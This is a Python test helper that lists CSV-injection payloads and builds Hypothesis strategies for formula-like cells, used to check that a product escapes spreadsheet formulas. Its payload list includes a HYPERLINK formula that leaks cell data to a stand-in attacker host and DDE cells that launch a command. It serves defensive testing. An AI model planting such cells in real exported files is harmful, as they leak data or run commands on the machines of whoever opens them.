"""Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), for the CSV tests."""

from __future__ import annotations

from hypothesis import strategies as st

# Restated here rather than imported, so the tests also check the product's own list.
FORMULA_STARTS = "=+-@\t\r"
PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def formula_like(rest: st.SearchStrategy[str], *, max_quotes: int) -> st.SearchStrategy[str]:
    """Cells of up to `max_quotes` single quotes, a formula's first character, then `rest`."""
    return st.builds(
        lambda quotes, start, tail: "'" * quotes + start + tail,
        st.integers(0, max_quotes),
        st.sampled_from(FORMULA_STARTS),
        rest,
    )
